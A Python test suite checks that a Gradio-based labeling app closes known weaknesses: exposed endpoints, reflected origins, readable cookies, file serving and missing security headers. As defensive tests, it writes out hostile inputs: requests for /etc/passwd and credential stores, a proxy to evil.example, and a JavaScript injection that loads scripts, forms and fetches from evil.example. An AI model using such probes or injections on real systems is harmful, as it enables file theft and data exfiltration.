"""Each trap of Gradio 6.31, with what shuts it: asked of the running server, with Gradio's page mounted, over a socket.

| trap | test |
|---|---|
| a template is compiled as JavaScript: `${...}` and `{{...}}` in a model's text run | test_nothing_gets_into_a_template; in Chromium: test_hostile.py |
| gr.Markdown and gr.Chatbot let images, overlays, forms and ids through | test_the_page_is_one_component_without_events; test_markdown.py, test_hostile.py |
| "private" endpoints can be called | test_what_gradio_would_answer_is_not_there (run, api, call, queue/join) |
| gr.State is keyed by a hash that the client chooses | test_a_session_hash_chooses_nobody |
| any Origin is reflected, with credentials | test_no_origin_is_reflected |
| `/gradio_api/token` returns the login's token | test_what_gradio_would_answer_is_not_there; test_the_cookie_is_out_of_reach_of_scripts |
| what is `visible=False` ships in `/config` | test_the_page_is_one_component_without_events, test_nothing_of_the_store_is_in_what_gradio_ships |
| files under the working directory and /tmp are served | test_no_file_is_served |
| an anonymous heartbeat fires another user's `unload` | test_a_heartbeat_ends_no_lease |
| run history is on | test_all_extras_are_off, test_what_gradio_would_answer_is_not_there (runs) |
| the built-in login has no throttle | test_what_gradio_would_answer_is_not_there (login/, login_check); ours: test_guard.py |
| no security headers; remote images, forms and frames | test_headers_are_on_every_answer, test_the_browser_enforces_the_policy |
| analytics, share, footer links, errors, SSR, MCP, vibe mode, PWA | test_all_extras_are_off |
| one event at a time, a queue and state in one process | test_the_page_is_one_component_without_events, test_the_page_asks_gradio_for_nothing |
| `server_functions` get no username | test_the_page_is_one_component_without_events: there are none |
| SIGTERM hangs on open tabs | test_label.py: test_it_stops_in_bounded_time_although_a_page_is_open |
| its folder for uploads stays behind | test_label.py: test_nothing_is_left_behind |
| holes before 6.16 | test_gradio_is_new_enough |

Mutations seen to fail (in `labeling_ui`):

- `rules`: Gradio's API let through (what Gradio would answer ...); empty parts in the paths of its files (no file ...)
- `guard`: any Origin taken (no origin ...); `x-frame-options` left out (headers ...); images from anywhere (the browser ...)
- `pages`: run history on, errors shown (all extras ...); `labeling.html`: something to fill in (... template)
- `logins`: a cookie that scripts can read (... out of reach ...)
"""

from __future__ import annotations

import json
import os
import re
import tempfile
from pathlib import Path

import httpx
import pytest
from labeling_app import PASSWORD, PEOPLE, fill
from labeling_server import Thread, opened
from packaging.version import Version
from playwright.sync_api import Browser

from labeling_ui.accounts import add_account
from labeling_ui.guard import COOKIE

pytestmark = pytest.mark.xdist_group("labeling")

SHUT = [
    *("GET /gradio_api/token", "GET /gradio_api/app_id", "GET /gradio_api/startup-events", "GET /gradio_api/info"),
    *("GET /gradio_api/openapi.json", "GET /gradio_api/heartbeat/abc", "GET /gradio_api/queue/data?session_hash=abc"),
    *("GET /gradio_api/queue/status", "POST /gradio_api/queue/join", "POST /gradio_api/run/predict", "POST /gradio_api/api/x"),
    *("POST /gradio_api/call/predict", "POST /gradio_api/call/v2/x", "GET /gradio_api/call/predict/abc", "POST /gradio_api/reset"),
    *("POST /gradio_api/cancel", "POST /gradio_api/component_server", "POST /gradio_api/upload", "GET /gradio_api/upload_progress"),
    *("POST /gradio_api/process_recording", "GET /gradio_api/proxy=http://evil.example/x", "GET /gradio_api/deep_link"),
    *("GET /gradio_api/runs", "GET /gradio_api/mcp/sse", "POST /gradio_api/mcp/http", "GET /gradio_api/mcp/schema"),
    *("POST /gradio_api/vibe-edit/", "GET /gradio_api/vibe-code/", "GET /monitoring", "GET /monitoring/summary"),
    *("POST /login", "POST /login/", "GET /login_check", "GET /logout", "GET /manifest.json", "GET /pwa_icon", "GET /robots.txt"),
    *("POST /run/predict", "POST /api/predict", "GET /queue/data", "GET /file=labels.db", "GET /docs", "GET /openapi.json"),
    *("GET /config/", "GET /gradio_api/dev/reload", "GET /custom_component/abc/client/component/index.js", "OPTIONS /config"),
]  # fmt: skip


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    folder = tmp_path_factory.mktemp("traps")
    for name, role in PEOPLE.items():
        add_account(folder / "people.json", name, role, PASSWORD)
    with opened(folder) as store:
        fill(store)
        made = Thread(store, auth=str(folder / "people.json"), practice=False)
        made.folder = folder
        yield made
        made.close()


@pytest.fixture(scope="module")
def people(server):
    """name → a client that has logged in; None: one that has not."""
    made: dict[str | None, httpx.Client] = {}
    for name in (None, *PEOPLE):
        made[name] = httpx.Client(base_url=server.url, headers={"origin": server.url})
        if name:
            assert made[name].post("/v1/login", json={"name": name, "password": PASSWORD}).status_code == 200
    yield made
    for client in made.values():
        client.close()


@pytest.fixture(scope="module")
def config(people) -> dict:
    return people["ann"].get("/config").json()


@pytest.mark.parametrize("asked", SHUT)
def test_what_gradio_would_answer_is_not_there(people, asked):
    """For nobody, whatever their role."""
    method, path = asked.split(" ")
    for name, client in people.items():
        answer = client.request(method, path, json={"data": [], "session_hash": "abc"} if method == "POST" else None)
        assert (answer.status_code, answer.json()["reason"]) == (404, "unknown"), name


def test_nothing_gets_into_a_template(config):
    """What Gradio compiles is our own file, which has nothing to fill in; and no value is handed to it."""
    (component,) = config["components"]
    template = (Path(__file__).resolve().parents[2] / "labeling_ui/static/labeling.html").read_text()
    assert component["props"]["html_template"] == template
    assert not re.search(r"\$\{|\{\{", template)
    assert not component["props"]["css_template"]
    assert component["props"]["props"] == {}
    assert "value" not in component["props"]


def test_the_page_is_one_component_without_events(config):
    assert [one["type"] for one in config["components"]] == ["html"]
    assert all(one["props"]["visible"] is True for one in config["components"])
    assert config["dependencies"] == [], "no event, so no endpoint, no queue, no state"
    assert not config["connect_heartbeat"]


def test_all_extras_are_off(config, people):
    off = (
        "analytics_enabled",
        "show_error",
        "run_history",
        "vibe_mode",
        "mcp_server",
        "pwa",
        "dev_mode",
        "space_id",
        "is_colab",
    )
    assert {name: config[name] for name in off if config[name]} == {}
    assert config["footer_links"] == []
    assert os.environ["GRADIO_ANALYTICS_ENABLED"] == "False"
    page = people["ann"].get("/")
    assert "x-powered-by" not in page.headers
    assert "gradio.live" not in page.text


def test_gradio_is_new_enough():
    import gradio

    assert Version(gradio.__version__) >= Version("6.16")


def test_nothing_of_the_store_is_in_what_gradio_ships(server, people):
    ann = people["ann"]
    task = ann.post("/v1/next", json={}).json()["task"]
    shipped = ann.get("/config").text + ann.get("/").text + ann.get("/theme.css").text
    held = [task["lease"], "Prompt number", "first text", "secret-", "labels.db", str(server.folder), PASSWORD]
    assert [word for word in held if word in shipped] == []


def test_a_session_hash_chooses_nobody(people):
    """Whatever hash, name or lease a client sends along: it is the cookie that says who it is."""
    ann, rob = people["ann"], people["rob"]
    task = ann.post("/v1/next", json={}).json()["task"]
    claims = {"x-gradio-user": "ann", "x-session-hash": "abc", "x-forwarded-user": "ann", "remote-user": "ann"}
    assert rob.get("/v1/me?session_hash=abc&username=ann", headers=claims).json()["name"] == "rob"
    assert rob.post("/v1/next?session_hash=abc", json={}, headers=claims).json()["task"]["lease"] != task["lease"]
    assert people[None].get("/v1/me?session_hash=abc", headers=claims).status_code == 401
    sent = {"lease": task["lease"], "answer": {"tiers": [["A"]]}, "key": "key-of-rob", "session_hash": "abc"}
    assert rob.post("/v1/submit", json=sent).status_code == 422, "an unknown field"
    sent.pop("session_hash")
    assert rob.post("/v1/submit", json=sent, headers=claims).status_code == 404


@pytest.mark.parametrize("origin", ["http://evil.example", "null", "http://localhost.evil.example:7860"])
@pytest.mark.parametrize("path", ["/config", "/", "/theme.css", "/v1/me", "/login", "/ui/main.js"])
def test_no_origin_is_reflected(people, origin, path):
    for answer in (
        people["eve"].get(path, headers={"origin": origin}),
        people["eve"].options(path, headers={"origin": origin, "access-control-request-method": "POST"}),
        people["eve"].get(path),
    ):
        assert not [name for name in answer.headers if name.startswith("access-control-")]
        assert answer.request.headers["origin"] != origin or answer.status_code == 403


def test_the_cookie_is_out_of_reach_of_scripts(server, people, browser: Browser):
    context = browser.new_context()
    page = context.new_page()
    sent = {"name": "ann", "password": PASSWORD}
    page.request.post(f"{server.url}/v1/login", data=sent, headers={"origin": server.url})
    page.goto(server.url)
    page.locator("#align .card").first.wait_for()
    (cookie,) = context.cookies()
    assert (cookie["name"], cookie["httpOnly"], cookie["sameSite"]) == (COOKIE, True, "Strict")
    assert page.evaluate("document.cookie") == ""
    assert cookie["value"] not in page.content()
    context.close()


@pytest.mark.parametrize("prefix", ["/gradio_api/file=", "/file=", "/gradio_api/file/", "/static/", "/assets/", "/ui/"])
def test_no_file_is_served(server, people, prefix):
    """Of the working directory, the temporary folder, the store's, or the machine's."""
    with tempfile.NamedTemporaryFile("w", suffix=".txt") as temporary:
        temporary.write("secret of the temporary folder")
        temporary.flush()
        places = [
            temporary.name,
            str(Path.cwd() / "pyproject.toml"),
            "pyproject.toml",
            "labeling_ui/app.py",
            "/etc/passwd",
        ]
        places += [
            str(server.folder / "people.json"),
            str(server.folder / "labels.db"),
            "people.json",
            "https://evil.example/",
        ]
        for place in places:
            answer = people["eve"].get(prefix + place)
            assert answer.status_code == 404, place


def test_a_heartbeat_ends_no_lease(server, people):
    task = people["ann"].post("/v1/next", json={}).json()["task"]
    for client in people.values():
        assert client.get("/gradio_api/heartbeat/abc").status_code == 404
        assert client.post("/gradio_api/reset", json={"event_id": "abc"}).status_code == 404
    assert people["ann"].post("/v1/next", json={}).json()["task"]["lease"] == task["lease"]


@pytest.mark.parametrize(
    "path", ["/", "/config", "/theme.css", "/v1/me", "/login", "/ui/main.js", "/nowhere", "/gradio_api/token"]
)
def test_headers_are_on_every_answer(people, path):
    for client in people.values():
        headers = client.get(path).headers
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["x-frame-options"] == "DENY"
        assert headers["referrer-policy"] == "no-referrer"
        assert headers["cross-origin-opener-policy"] == "same-origin"
        assert headers["cross-origin-resource-policy"] == "same-origin"
        policy = dict(
            part.strip().split(" ", 1) for part in headers["content-security-policy"].split(";") if part.strip()
        )
        assert policy["img-src"] == "'self' data:"
        assert policy["frame-ancestors"] == policy["object-src"] == "'none'"
        assert {policy[name] for name in ("default-src", "connect-src", "form-action", "base-uri")} == {"'self'"}
        assert "server" not in headers


BREAKOUT = """async () => {
    const broken = [];
    document.addEventListener('securitypolicyviolation', (event) => broken.push(event.effectiveDirective));
    const box = document.createElement('div');
    box.innerHTML = `<img src="http://evil.example/a.png"><form action="http://evil.example/f"><button>go</button></form>
      <iframe src="http://evil.example/i"></iframe><link rel="stylesheet" href="http://evil.example/s.css">
      <video src="http://evil.example/v.mp4" autoplay></video><object data="http://evil.example/o"></object>`;
    document.body.append(box);
    const script = document.createElement('script');
    script.src = 'http://evil.example/x.js';
    document.body.append(script);
    box.querySelector('form').requestSubmit();
    await fetch('http://evil.example/c').catch(() => null);
    await new Promise((resolve) => setTimeout(resolve, 400));
    return broken;
}"""


def test_the_browser_enforces_the_policy(server, browser: Browser):
    """Should a text ever get out of its box: nothing that it asks for leaves the page."""
    context = browser.new_context()
    page = context.new_page()
    sent = {"name": "ann", "password": PASSWORD}
    page.request.post(f"{server.url}/v1/login", data=sent, headers={"origin": server.url})
    page.goto(server.url)
    page.locator("#align .card").first.wait_for()
    left: list[str] = []
    context.route(re.compile("evil"), lambda route: (left.append(route.request.url), route.abort()))
    broken = set(page.evaluate(BREAKOUT))
    assert broken >= {
        "img-src",
        "form-action",
        "frame-src",
        "style-src-elem",
        "media-src",
        "object-src",
        "script-src-elem",
        "connect-src",
    }
    assert left == []
    assert page.url.startswith(server.url)
    context.close()


def test_the_page_asks_gradio_for_nothing(server, browser: Browser):
    """No queue, no heartbeat, no token, no upload, no websocket; and nothing outside."""
    context = browser.new_context()
    page, asked = context.new_page(), []
    page.on("request", lambda request: asked.append(request.url))
    page.on("websocket", lambda socket: asked.append(socket.url))
    sent = {"name": "rob", "password": PASSWORD}
    page.request.post(f"{server.url}/v1/login", data=sent, headers={"origin": server.url})
    page.goto(server.url)
    page.locator("#align .card").first.wait_for()
    page.wait_for_timeout(500)
    assert [url for url in asked if not url.startswith(server.url + "/")] == []
    assert [url for url in asked if "gradio_api" in url or "queue" in url] == []
    assert len(asked) > 10
    assert json.loads(page.evaluate("JSON.stringify(Object.keys(window.gradio_config.dependencies ?? {}))")) == []
    context.close()
